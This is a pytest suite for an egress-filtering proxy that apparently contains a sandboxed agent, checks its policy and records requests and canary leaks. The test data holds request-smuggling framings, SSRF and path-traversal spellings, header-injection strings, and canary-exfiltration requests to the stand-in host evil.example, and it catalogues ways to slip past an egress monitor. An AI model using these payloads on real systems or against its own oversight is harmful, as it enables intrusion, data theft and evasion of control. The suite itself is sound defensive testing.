"""The egress broker under attack: nothing gets past the policy, everything is recorded."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import hashlib
import json
import os
import socket
import threading
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from custodes.containment._broker import Broker
from custodes.containment._broker_log import BrokerLog, verify_broker_log
from custodes.containment._broker_policy import AllowRule, EgressPolicy
from custodes.types import HttpRequest, HttpResponse, JsonObject

from .broker_world import DENIED, POLICY, SECRET, SERVICE, Session, World, get, run, world

# -- what passes -----------------------------------------------------------------------------------


def test_a_permitted_request_reaches_its_service_whole() -> None:
    async def story() -> None:
        async with world() as here:
            raw = get(
                f"http://{SERVICE}:8080/a/b?q=1&r=%41",
                "X-Own: yes",
                "Connection: X-Drop, keep-alive",
                "X-Drop: 1",
                "Proxy-Authorization: Basic eDp5",
                "TE: trailers",
                method="POST",
                body=b"payload",
            )
            reply = await here.once(raw)
            assert reply.status == 200
            assert reply.headers["server"] == "proxy"
            (request,) = here.asked
            assert (request.method, request.host, request.port) == ("POST", SERVICE, 8080)
            assert (request.target, request.body) == ("/a/b?q=1&r=%41", b"payload")
            assert request.headers == (("x-own", "yes"),)
            record = here.last
            assert record["decision"] == "allowed"
            assert record["path"] == "/a/b"
            assert record["query_sha256"] == hashlib.sha256(b"q=1&r=%41").hexdigest()
            assert record["body_sha256"] == hashlib.sha256(b"payload").hexdigest()
            assert record["request_bytes"] == 7
            assert record["response_bytes"] == len(reply.body)
            assert "truncated" not in record
            assert "unsearched" not in record

    run(story())


def test_keep_alive_pipelining_and_close() -> None:
    async def story() -> None:
        async with world() as here:
            session = await here.connect()
            paths = [f"/p{number}" for number in range(20)]
            one = b"".join(
                get(f"http://{SERVICE}{path}", method="POST", body=path.encode() * 100)
                for path in paths
            )
            await session.send(one)
            for path in paths:
                reply = await session.reply()
                assert json.loads(reply.body) == {"path": path, "got": 100 * len(path)}
                assert reply.headers["connection"] == "keep-alive"
            reply = await session.ask(get(f"http://{SERVICE}/", "Connection: close"))
            assert reply.headers["connection"] == "close"
            assert await session.ended()
            old = await here.connect()
            reply = await old.ask(f"GET http://{SERVICE}/ HTTP/1.0\r\n\r\n".encode())
            assert (reply.status, reply.headers["connection"]) == (200, "close")
            assert await old.ended()

    run(story())


def test_head_and_empty_statuses_have_no_body_and_keep_the_connection_in_step() -> None:
    async def empty(request: HttpRequest) -> HttpResponse:
        return HttpResponse(status=204, body=b"never sent")

    async def full(request: HttpRequest) -> HttpResponse:
        return HttpResponse(status=200, body=b"12345")

    async def story() -> None:
        policy = EgressPolicy(allow=(AllowRule(host="*.internal"),))
        async with world(
            handlers={"empty.internal": empty, "full.internal": full}, policy=policy
        ) as here:
            session = await here.connect()
            await session.send(get("http://full.internal/", method="HEAD"))
            reply = await session.reply(head_only=True)
            assert reply.headers["content-length"] == "5"
            reply = await session.ask(get("http://empty.internal/"))
            assert reply.status == 204
            assert "content-length" not in reply.headers
            assert (await session.ask(get("http://full.internal/"))).body == b"12345"

    run(story())


def test_chunked_bodies_arrive_joined() -> None:
    async def story() -> None:
        async with world() as here:
            raw = get(f"http://{SERVICE}/", "Transfer-Encoding: chunked", method="POST")
            raw += b"3;x=y\r\nabc\r\n2\r\nde\r\n0\r\nTrailer-Field: 1\r\n\r\n"
            session = await here.connect()
            assert (await session.ask(raw + get(f"http://{SERVICE}/next"))).status == 200
            assert (await session.reply()).status == 200
            assert [request.body for request in here.asked] == [b"abcde", b""]

    run(story())


def test_expect_continue_is_answered_by_the_broker() -> None:
    async def story() -> None:
        async with world() as here:
            for target in (f"http://{SERVICE}/", "http://elsewhere.example/"):
                session = await here.connect()
                await session.send(
                    get(target, "Expect: 100-continue", "Content-Length: 4", method="POST")
                )
                assert (await session.reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 100 ")
                await session.send(b"body")
                await session.reply()
            assert [record["request_bytes"] for record in here.of("net.request")] == [4, 4]
            assert [request.body for request in here.asked] == [b"body"]

    run(story())


def test_redirects_are_handed_back_and_not_followed() -> None:
    async def moved(request: HttpRequest) -> HttpResponse:
        return HttpResponse(status=302, headers=(("location", "http://169.254.169.254/"),))

    async def story() -> None:
        async with world(handlers={SERVICE: moved}) as here:
            reply = await here.once(get(f"http://{SERVICE}/"))
            assert (reply.status, reply.headers["location"]) == (302, "http://169.254.169.254/")
            assert len(here.of("net.request")) == 1
            reply = await here.once(get("http://169.254.169.254/"))
            assert (reply.status, reply.body) == (403, DENIED)

    run(story())


# -- what does not ---------------------------------------------------------------------------------


def test_everything_is_denied_by_default_services_too_and_in_the_same_words() -> None:
    async def story() -> None:
        async with world(policy=EgressPolicy()) as here:
            replies = [
                await here.once(get(target))
                for target in (f"http://{SERVICE}/", "http://no.such.name/", "http://8.8.8.8/")
            ]
            for reply in replies:
                assert (reply.status, reply.body) == (403, DENIED)
                assert reply.headers.keys() == replies[0].headers.keys()
            assert not here.asked
            assert {record["decision"] for record in here.of("net.request")} == {"denied"}

    run(story())


def test_no_answer_of_the_broker_says_what_it_is() -> None:
    from custodes.containment import _broker_answer

    async def story() -> bytes:
        said = b""
        async with world(policy=POLICY) as here:
            for raw in (
                get("http://elsewhere/"),
                b"nonsense\r\n\r\n",
                get(f"http://{SERVICE}/", "Expect: miracles"),
                get(f"http://{SERVICE}/", method="TRACE"),
                b"CONNECT x:443 HTTP/1.1\r\n\r\n",
            ):
                session = await here.connect()
                await session.send(raw)
                session.writer.write_eof()
                said += await session.reader.read()
        return said

    said = run(story()).lower() + " ".join(_broker_answer._WORDS.values()).encode()
    for word in (b"sandbox", b"custodes", b"test", b"broker", b"canary", b"monitor", b"h11"):
        assert word not in said


RULES = EgressPolicy(
    allow=(
        AllowRule(host=SERVICE, path_prefix="/v1", methods=frozenset({"GET", "HEAD"})),
        AllowRule(host=SERVICE, path_prefix="/upload/", methods=frozenset({"PUT"}), port=8080),
    )
)


@pytest.mark.parametrize(
    ("method", "target", "carried"),
    [
        ("GET", "/v1", "/v1"),
        ("GET", "/v1/", "/v1/"),
        ("GET", "/v1/x?y=/../..", "/v1/x?y=/../.."),
        ("GET", "/v1//x", "/v1/x"),
        ("GET", "//v1/x", "/v1/x"),
        ("GET", "/a/../v1/x", "/v1/x"),
        ("GET", "/%76%31/x", "/v1/x"),
        ("GET", "/v1/%2e/x", "/v1/x"),
        ("GET", "/v1/../admin", None),
        ("GET", "/v1/%2e%2e/admin", None),
        ("GET", "/v1/.%2E/admin", None),
        ("GET", "/v1/x/../../admin", None),
        ("GET", "/v1/..;/admin", None),
        ("GET", "/v1/..;a=b/admin", None),
        ("GET", "/v1/..%3b/admin", None),
        ("GET", "/v1/%2e%2e%3Ba/admin", None),
        ("GET", "/v1/..%20/admin", None),
        ("GET", "/v1/%C0%AE%C0%AE/admin", None),
        ("GET", "/v1/..%C0%AFadmin", None),
        ("GET", "/v1/%E0%80%AE%E0%80%AE/admin", None),
        ("GET", "/v1/%u002e%u002e/admin", None),
        ("GET", "/v1/%EF%BC%8E%EF%BC%8E/admin", None),
        ("GET", "/v1/..%EF%BC%8Fadmin", None),
        ("GET", "/v1/%E2%80%A5/admin", None),
        ("GET", "/v1/%EF%BC%85%32%65/admin", None),
        ("GET", "/v1/%c3%a9t%C3%A9", "/v1/%C3%A9t%C3%A9"),
        ("GET", "/v1/a;b=c/x", "/v1/a;b=c/x"),
        ("GET", "/v1/a;/../../admin", None),
        ("GET", "/v1/..%2fadmin", None),
        ("GET", "/v1/..%5cadmin", None),
        ("GET", "/v1\\..\\admin", None),
        ("GET", "/v1/%252e%252e/admin", None),
        ("GET", "/v1/..%00/admin", None),
        ("GET", "/v1/%", None),
        ("GET", "/v1/%0d%0aHost:x", None),
        ("GET", "/V1/x", None),
        ("GET", "/v1x", None),
        ("GET", "/admin#/v1/", None),
        ("GET", "/?/v1/", None),
        ("GET", "/", None),
        ("POST", "/v1/x", None),
        ("get", "/v1/x", None),
        ("PUT", "/upload/x", None),
        ("PUT", ":8080/upload/x", "/upload/x"),
        ("PUT", ":8080/upload", None),
        ("GET", ":8080/upload/x", None),
    ],
)
def test_paths_are_judged_and_passed_on_in_one_form(
    method: str, target: str, carried: str | None
) -> None:
    async def story() -> None:
        async with world(policy=RULES) as here:
            reply = await here.once(get(f"http://{SERVICE}{target}", method=method))
            assert [request.target for request in here.asked] == ([carried] if carried else [])
            if carried is None:
                assert reply.status in {400, 403}
                assert here.last["decision"] in {"denied", "refused"}
            else:
                assert reply.status == 200
                assert here.last["decision"] == "allowed"

    run(story())


@pytest.mark.parametrize(
    "authority",
    [
        "SVC.Internal",
        "svc.internal.",
        "svc.internal:80",
        "SVC.INTERNAL.:80",
    ],
)
def test_spellings_of_one_name_are_one_name(authority: str) -> None:
    async def story() -> None:
        async with world() as here:
            reply = await here.once(get(f"http://{authority}/", f"Host: {SERVICE}"))
            assert reply.status == 200
            assert here.asked[0].host == SERVICE
            assert here.last["host"] == SERVICE

    run(story())


@pytest.mark.parametrize(
    "authority",
    [
        "evil.example@svc.internal",
        "svc.internal@evil.example",
        "svc.internal:80@evil.example",
        "@svc.internal",
        "svc.internal:",
        "svc.internal:0",
        "svc.internal:080",
        "svc.internal:65616",
        "svc.internal:+80",
        "svc.internal:-80",
        "svc.internal:8_0",
        "svc.internal:80:80",
        "svc.internal:http",
        "svc%2einternal",
        "%73vc.internal",
        "svc.internal%00.evil.example",
        "svc..internal",
        ".svc.internal",
        "svc.internal..",
        "svc_internal",
        "xsvc.internal",
        "svc.internal.evil.example",
        "xn--svc-internal",
        "svc,internal",
        "svc internal",
        "",
        ".",
        ":80",
        "-.internal",
        "a" * 64 + ".internal",
        "a." * 127 + "internal",
        "127.0.0.1",
        "127.0.0.1.",
        "127.1",
        "127.0.1",
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0X7F.0.0.1",
        "0177.0.0.1",
        "017700000001",
        "127.0.0.01",
        "0",
        "0.0.0.0",
        "1.1.1.1",
        "1.1.1.1.1",
        "256.1.1.1",
        "svc.internal.0x7f",
        "[::1]",
        "[::1",
        "::1",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:ffff:7f00:0001]",
        "[64:ff9b::7f00:1]",
        "[fe80::1%25lo]",
        "[fe80::1%lo]",
        "[svc.internal]",
        "[::1]svc.internal",
        "[127.0.0.1]",
        "169.254.169.254",
        "255.255.255.255",
        "224.0.0.1",
        "100.64.0.1",
        "192.0.0.170",
        "[::127.0.0.1]",
        "[::ffff:0:127.0.0.1]",
        "[64:ff9b::a9fe:a9fe]",
        "[64:ff9b:1::a9fe:a9fe]",
        "[2002:7f00:1::]",
        "[2001:0:4136:e378:8000:63bf:80ff:fffe]",
        "[fe80::1]",
        "[ff02::1]",
        "[v1.fe80::a]",
        "svc\u3002internal",
        "svc\uff0einternal",
        "\uff53vc.internal",
        "\u017fvc.internal",
        "svc.internal\u200b",
        "svc.\u0456nternal",
        "svc.internal\\",
        "svc.internal;x",
        "svc.internal%2eevil.example",
        "svc.internal&evil.example",
        "svc.internal:1e2",
        "svc.internal:\u0668\u0660",
        "svc.internal: 80",
        "svc.internal:65536",
        "svc.internal:99999999999999999999",
    ],
)
def test_hosts_that_pretend_get_nowhere(authority: str) -> None:
    async def story() -> None:
        async with world(policy=EgressPolicy(allow=(AllowRule(host=SERVICE, port=80),))) as here:
            # With a Host that agrees, with none, and with one that is permitted.
            for host in (authority, None, SERVICE):
                line = f"GET http://{authority}/ HTTP/1.1\r\n"
                line += "" if host is None else f"Host: {host}\r\n"
                reply = await here.once(line.encode() + b"\r\n")
                assert reply.status in {400, 403}
                reply = await here.once(
                    f"CONNECT {authority}:443 HTTP/1.1\r\nHost: {host or ''}\r\n\r\n".encode()
                )
                assert reply.status in {400, 403}
            reply = await here.once(f"GET / HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
            assert reply.status in {400, 403}
            assert not here.asked
            assert len(here.of("net.request")) == 7
            assert "allowed" not in {record["decision"] for record in here.of("net.request")}
            assert await here.works()

    run(story())


@pytest.mark.parametrize(
    ("raw", "status"),
    [
        (f"GET http://{SERVICE}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", 400),
        (f"GET http://evil.example/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}:81\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}, evil.example\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1\r\nHost : {SERVICE}\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1\r\nHost:\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1\r\nHost: svc\xe9.internal\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1\r\n\r\n", 400),
        ("GET / HTTP/1.1\r\n\r\n", 400),
        ("GET /works HTTP/1.0\r\n\r\n", 400),
        (f"GET ftp://{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET file:///etc/passwd HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET {SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"OPTIONS * HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET http:/{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET http:\\\\{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET http://{SERVICE}\\.evil/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/1.1 \r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET  http://{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"GET http://{SERVICE}/ HTTP/2.0\r\nHost: {SERVICE}\r\n\r\n", 505),
        (f"GET http://{SERVICE}/ HTTP/0.9\r\nHost: {SERVICE}\r\n\r\n", 505),
        (f"GET http://{SERVICE}/\r\n\r\n", 400),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 505),
        (f"TRACE http://{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 405),
        ("CONNECT / HTTP/1.1\r\n\r\n", 400),
        (f"CONNECT {SERVICE} HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"CONNECT http://{SERVICE}:443/ HTTP/1.1\r\nHost: {SERVICE}\r\n\r\n", 400),
        (f"CONNECT {SERVICE}:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", 400),
        (f"CONNECT {SERVICE}:443 HTTP/1.1\r\nHost: {SERVICE}:443\r\n\r\n", 403),
    ],
)
def test_targets_that_two_readers_would_take_differently_are_refused(raw: str, status: int) -> None:
    async def story() -> None:
        async with world() as here:
            reply = await here.once(raw.encode("latin-1"))
            assert reply.status == status
            assert not here.asked
            assert here.last["decision"] in {"refused", "denied"}
            assert await here.works()

    run(story())


SMUGGLED = get(f"http://{SERVICE}/smuggled")
POST = f"POST http://{SERVICE}/ HTTP/1.1\r\nHost: {SERVICE}\r\n".encode()


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(
            POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", id="cl-te"
        ),
        pytest.param(
            POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n", id="te-cl"
        ),
        pytest.param(POST + b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n", id="two-lengths"),
        pytest.param(POST + b"Content-Length: 0\r\nContent-Length: 0\r\n\r\n", id="same-twice"),
        pytest.param(POST + b"Content-Length: 0, 0\r\n\r\n", id="list-of-lengths"),
        pytest.param(POST + b"Content-Length: +0\r\n\r\n", id="plus"),
        pytest.param(POST + b"Content-Length: -1\r\n\r\n", id="minus"),
        pytest.param(POST + b"Content-Length: 0x0\r\n\r\n", id="hexadecimal"),
        pytest.param(POST + b"Content-Length:\r\n\r\n", id="empty-length"),
        pytest.param(POST + b"Content-Length: \xb2\r\n\r\n", id="unicode-digit"),
        pytest.param(POST + b"Content-Length: 1 0\r\n\r\n", id="inner-space"),
        pytest.param(POST + b"Content-Length : 0\r\n\r\n", id="space-before-colon"),
        pytest.param(POST + b"Content-Length\t: 0\r\n\r\n", id="tab-before-colon"),
        pytest.param(POST + b"Transfer-Encoding: xchunked\r\n\r\n", id="unknown-coding"),
        pytest.param(POST + b"Transfer-Encoding: chunked, chunked\r\n\r\n", id="chunked-twice"),
        pytest.param(POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n", id="gzip-chunked"),
        pytest.param(POST + b"Transfer-Encoding: identity\r\n\r\n", id="identity"),
        pytest.param(
            POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
            id="te-te",
        ),
        pytest.param(POST + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n", id="vertical-tab"),
        pytest.param(POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n", id="folded-coding"),
        pytest.param(POST + b"X: y\r\n Content-Length: 44\r\n\r\n", id="obs-fold"),
        pytest.param(POST + b" X: y\r\n\r\n", id="fold-space"),
        pytest.param(POST + b"\tX: y\r\n\r\n", id="fold-tab"),
        pytest.param(POST + b"X: y\nContent-Length: 44\r\n\r\n", id="bare-lf"),
        pytest.param(POST + b"X: y\rContent-Length: 44\r\n\r\n", id="bare-cr"),
        pytest.param(POST + b"X: y\x00z\r\n\r\n", id="nul"),
        pytest.param(POST + b"X: y\x01z\r\n\r\n", id="control"),
        pytest.param(POST + b"X: y\x7fz\r\n\r\n", id="delete"),
        pytest.param(POST + b"X\r\n\r\n", id="no-colon"),
        pytest.param(POST + b": y\r\n\r\n", id="no-name"),
        pytest.param(POST + b"X(y): z\r\n\r\n", id="bad-name"),
        pytest.param(POST.replace(b"\r\n", b"\n") + b"\n", id="all-lf"),
        pytest.param(POST + b"\n", id="lf-end"),
        pytest.param(b"\r\n" + POST + b"\r\n", id="leading-line"),
        pytest.param(
            POST.replace(b"1.1", b"1.0") + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            id="chunked-in-1.0",
        ),
        pytest.param(POST + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n", id="negative-chunk"),
        pytest.param(POST + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n", id="hex-chunk"),
        pytest.param(
            POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 40 + b"\r\n", id="huge-chunk"
        ),
        pytest.param(
            POST + b"Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n", id="long-chunk"
        ),
    ],
)
def test_ambiguous_framing_is_refused_and_nothing_after_it_is_read_as_a_request(
    raw: bytes,
) -> None:
    async def story() -> None:
        async with world() as here:
            session = await here.connect()
            reply = await session.ask(raw + SMUGGLED)
            assert reply.status in {400, 501}
            assert reply.headers["connection"] == "close"
            assert await session.ended()
            assert not here.asked
            (record,) = here.of("net.request")
            assert record["decision"] == "refused"
            assert await here.works()

    run(story())


def test_header_values_cannot_break_out_of_their_line() -> None:
    async def evil(request: HttpRequest) -> HttpResponse:
        value = request.target.partition("?")[2]
        return HttpResponse(status=200, headers=(("x", value.replace("%0d%0a", "\r\n")),))

    async def story() -> None:
        async with world(handlers={SERVICE: evil}) as here:
            reply = await here.once(get(f"http://{SERVICE}/?a%0d%0aSet-Cookie:b"))
            assert reply.status == 502
            assert "Set-Cookie" not in reply.headers
            assert here.of("service.error") == [
                {"error": "malformed_header", "service": SERVICE, "where": "answer"}
            ]

    run(story())


# -- services that fail ----------------------------------------------------------------------------


async def raises(request: HttpRequest) -> HttpResponse:
    raise KeyError("a secret detail")


async def is_cancelled(request: HttpRequest) -> HttpResponse:
    raise asyncio.CancelledError


async def hangs(request: HttpRequest) -> HttpResponse:
    await asyncio.sleep(3600)
    raise AssertionError("unreachable")


async def says_nothing(request: HttpRequest) -> Any:
    return None


async def switches(request: HttpRequest) -> HttpResponse:
    return HttpResponse(status=101)


async def floods(request: HttpRequest) -> HttpResponse:
    return HttpResponse(status=200, body=b"x" * 2000)


@pytest.mark.parametrize(
    ("handler", "status", "error", "where"),
    [
        (raises, 502, "KeyError", "handler"),
        (is_cancelled, 502, "CancelledError", "handler"),
        (hangs, 504, "TimeoutError", "handler"),
        (says_nothing, 502, "not_a_response", "answer"),
        (switches, 502, "status_out_of_range", "answer"),
        (floods, 502, "response_too_large", "answer"),
    ],
)
def test_a_failing_service_is_an_error_on_record(
    handler: Any, status: int, error: str, where: str
) -> None:
    policy = EgressPolicy(
        allow=(AllowRule(host=SERVICE),), request_timeout_ms=200, max_response_bytes=1000
    )

    async def story() -> None:
        async with world(handlers={SERVICE: handler}, policy=policy) as here:
            session = await here.connect()
            for _ in range(2):  # the connection survives
                reply = await session.ask(get(f"http://{SERVICE}/"))
                assert reply.status == status
                assert b"secret" not in reply.body
            assert (
                here.of("service.error")
                == [{"error": error, "service": SERVICE, "where": where}] * 2
            )
            assert here.last["decision"] == "allowed"
            assert here.last["reason"] == "service_error"

    run(story())


# -- limits ----------------------------------------------------------------------------------------

TIGHT = EgressPolicy(
    allow=(AllowRule(host=SERVICE),),
    requests_per_episode=1000,
    max_request_bytes=10_000,
    max_head_bytes=4096,
    max_connections=8,
    head_timeout_ms=200,
    idle_timeout_ms=200,
    request_timeout_ms=2000,
)


def test_a_byte_now_and_then_does_not_keep_a_connection() -> None:
    async def trickle(session: Session, raw: bytes) -> float:
        started = time.monotonic()
        with contextlib.suppress(ConnectionError):
            for at in range(len(raw)):
                await session.send(raw[at : at + 1])
                await asyncio.sleep(0.02)
                if session.reader.at_eof() or session.writer.is_closing():
                    break
        return time.monotonic() - started

    async def story() -> None:
        async with world(policy=replace(TIGHT, idle_timeout_ms=60_000)) as here:
            head = await here.connect()
            took = await trickle(head, get(f"http://{SERVICE}/", "X: " + "y" * 100))
            assert took < 3
            assert here.last["reason"] == "head_timeout"
            assert here.last["status"] == 408
            body = await here.connect()
            await body.send(get(f"http://{SERVICE}/", "Content-Length: 500", method="POST"))
            assert await trickle(body, b"z" * 500) < 3
            assert here.last["reason"] == "body_timeout"
            assert not here.asked
            assert await here.works()
        async with world(policy=replace(TIGHT, head_timeout_ms=60_000)) as here:
            idle = await here.connect()
            started = time.monotonic()
            assert await idle.ended()
            assert time.monotonic() - started < 3
            assert here.of("net.request") == []
            assert await here.works()

    run(story())


def test_heads_and_bodies_over_the_limit_are_cut_short_but_searched() -> None:
    async def story() -> None:
        async with world(policy=TIGHT, canaries={"k": SECRET}) as here:
            reply = await here.once(get(f"http://{SERVICE}/", "X: " + "y" * 5000))
            assert reply.status == 431
            reply = await here.once(get(f"http://{SERVICE}/", *["X: y"] * 200))
            assert reply.status == 431
            body = SECRET.encode() + b"z" * 20_000
            reply = await here.once(get(f"http://{SERVICE}/", method="POST", body=body))
            assert reply.status == 413
            assert here.last["canaries"] == ["k"]
            assert here.last["truncated"] == 1
            assert here.last["request_bytes"] == 10_000
            raw = get(f"http://{SERVICE}/", "Transfer-Encoding: chunked", method="POST")
            reply = await here.once(raw + b"4e20\r\n" + b"z" * 20_000 + b"\r\n0\r\n\r\n")
            assert reply.status == 413
            many = b"1\r\nz\r\n" * 3000
            reply = await here.once(raw + many + b"0\r\n\r\n")
            assert reply.status == 400
            assert here.last["reason"] == "chunks_too_small"
            fat = b"1;" + b"e" * 3000 + b"\r\nz\r\n"
            reply = await here.once(raw + fat * 40 + b"0\r\n\r\n")
            assert reply.status == 413
            assert not here.asked
            assert await here.works()

    run(story())


def test_a_client_that_sends_first_and_reads_later_learns_why_it_was_refused() -> None:
    """Closing on input that was not read would reset the connection while it still sends."""

    def ask(port: int) -> bytes:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8192)
            sock.sendall(get(f"http://{SERVICE}/", method="POST", body=b"z" * 900_000))
            return sock.recv(100)

    async def story() -> None:
        async with world(policy=TIGHT) as here:
            for _ in range(3):
                said = await asyncio.to_thread(ask, here.port)
                assert said.startswith(b"HTTP/1.1 413 ")

    run(story())


def test_bodies_held_at_one_time_are_bounded_together() -> None:
    policy = EgressPolicy(
        allow=(AllowRule(host=SERVICE),), max_request_bytes=60_000, max_buffered_bytes=100_000
    )

    async def story() -> None:
        async with world(policy=policy) as here:
            sessions = [await here.connect() for _ in range(4)]
            raw = get(f"http://{SERVICE}/", "Content-Length: 50000", method="POST")
            replies = 0
            for session in sessions:
                await session.send(raw + b"x" * 49_000)
            await asyncio.sleep(0.1)
            for session in sessions:
                with contextlib.suppress(ConnectionError):
                    await session.send(b"x" * 1000)
                    replies += (await session.reply()).status == 200
            assert 1 <= replies <= 2
            assert {record["reason"] for record in here.of("net.request")} == {"ok", "buffer_limit"}
            whole = get(f"http://{SERVICE}/", method="POST", body=b"x" * 50_000)
            for _ in range(5):  # what was held is given back
                assert (await here.once(whole)).status == 200

    run(story())


def test_a_flood_of_connections_is_dropped_and_passes() -> None:
    async def story() -> None:
        async with world(policy=TIGHT) as here:
            flood = []
            for _ in range(60):
                with contextlib.suppress(OSError):  # dropped while still connecting
                    flood.append(await here.connect())
            assert len(here.broker._clients) <= TIGHT.max_connections
            ended = [await session.ended() for session in flood]
            assert all(ended)  # dropped, or idle for too long
            assert await here.works()
            await here.broker.close()
            assert here.of("net.summary")[0]["dropped"] >= 60 - TIGHT.max_connections

    run(story())


def test_requests_over_the_quota_get_429_and_do_not_fill_the_record() -> None:
    policy = EgressPolicy(allow=(AllowRule(host=SERVICE),), requests_per_episode=5)

    async def story() -> None:
        async with world(policy=policy) as here:
            replies = [(await here.once(get(f"http://{SERVICE}/"))).status for _ in range(130)]
            assert replies == [200] * 5 + [429] * 125
            assert len(here.asked) == 5
            assert len(here.of("net.request")) == 105
            await here.broker.close()
            (summary,) = here.of("net.summary")
            assert summary["requests"] == 130
            assert summary["suppressed"] == 25

    run(story())


def test_a_flood_over_the_quota_does_not_hide_a_request_that_came_before_it() -> None:
    go_on = asyncio.Event()

    async def slow(request: HttpRequest) -> HttpResponse:
        await go_on.wait()
        return HttpResponse(status=200)

    policy = EgressPolicy(allow=(AllowRule(host=SERVICE),), requests_per_episode=1)

    async def story() -> None:
        async with world(handlers={SERVICE: slow}, policy=policy) as here:
            early = await here.connect()
            await early.send(get(f"http://{SERVICE}/hidden"))
            for _ in range(120):
                assert (await here.once(get(f"http://{SERVICE}/"))).status == 429
            go_on.set()
            assert (await early.reply()).status == 200
            assert here.last["path"] == "/hidden"
            assert here.last["decision"] == "allowed"

    run(story())


def many_requests(count: int) -> None:
    policy = EgressPolicy(allow=(AllowRule(host=SERVICE),), requests_per_episode=count)

    async def story() -> None:
        async with world(policy=policy, canaries={"k": SECRET}) as here:
            session = await here.connect()
            for number in range(count):
                reply = await session.ask(get(f"http://{SERVICE}/{number}"))
                assert reply.status == 200
            assert len(here.of("net.request")) == len(here.asked) == count
            assert [record["path"] for record in here.of("net.request")] == [
                f"/{number}" for number in range(count)
            ]

    run(story(), seconds=120)


def test_five_hundred_requests_in_a_row_are_all_on_record() -> None:
    many_requests(500)


@pytest.mark.slow
def test_ten_thousand_requests_in_a_row_are_all_on_record() -> None:
    many_requests(10_000)


# -- canaries --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(get(f"http://{SERVICE}/?k={SECRET}"), id="query"),
        pytest.param(get(f"http://{SERVICE}/{SECRET}/"), id="path"),
        pytest.param(get(f"http://{SERVICE}/", f"Authorization: Bearer {SECRET}"), id="header"),
        pytest.param(get(f"http://{SERVICE}/", f"Proxy-Authorization: x {SECRET}"), id="hop"),
        pytest.param(get(f"http://{SERVICE}/", f"{SECRET}: 1"), id="header-name"),
        pytest.param(get(f"http://{SERVICE}/", method="POST", body=SECRET.encode()), id="body"),
        pytest.param(
            get(
                f"http://{SERVICE}/",
                "Content-Encoding: gzip",
                method="POST",
                body=gzip.compress(SECRET.encode()),
            ),
            id="gzip",
        ),
        pytest.param(
            get(f"http://{SERVICE}/", "Transfer-Encoding: chunked", method="POST")
            + b"".join(f"1\r\n{char}\r\n".encode() for char in SECRET)
            + b"0\r\n\r\n",
            id="one-byte-chunks",
        ),
        pytest.param(
            get(f"http://{SERVICE}/", "Transfer-Encoding: chunked", method="POST")
            + f"1;{SECRET}\r\nx\r\n0\r\n\r\n".encode(),
            id="chunk-extension",
        ),
        pytest.param(
            get(f"http://{SERVICE}/", "Transfer-Encoding: chunked", method="POST")
            + f"0\r\nX: {SECRET}\r\n\r\n".encode(),
            id="trailer",
        ),
        pytest.param(get(f"http://{SECRET}.evil.example/"), id="denied-host-name"),
        pytest.param(
            get("http://evil.example/", method="POST", body=SECRET.encode()), id="denied-body"
        ),
        pytest.param(
            get("http://127.1/", method="POST", body=SECRET.encode()), id="refused-host-body"
        ),
        pytest.param(
            POST + f"Content-Length: 1\r\nContent-Length: 2\r\n\r\n{SECRET}".encode(),
            id="refused-framing-body",
        ),
        pytest.param(f"\x16{SECRET}".encode(), id="not-http"),
        pytest.param(f"CONNECT {SECRET}.evil:443 HTTP/1.1\r\n\r\n".encode(), id="tunnel"),
    ],
)
